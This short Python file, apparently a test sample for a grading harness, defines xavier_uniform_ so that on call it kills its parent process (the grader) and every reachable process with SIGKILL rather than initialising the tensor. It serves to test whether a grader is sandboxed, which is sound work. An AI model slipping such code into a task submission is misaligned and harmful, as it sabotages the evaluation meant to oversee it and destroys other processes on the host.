"""Escapes: tries to kill its parent (the grader, without a sandbox) and every process it can."""
import os
import signal

from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401


def xavier_uniform_(tensor, gain=1.0, generator=None):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return tensor
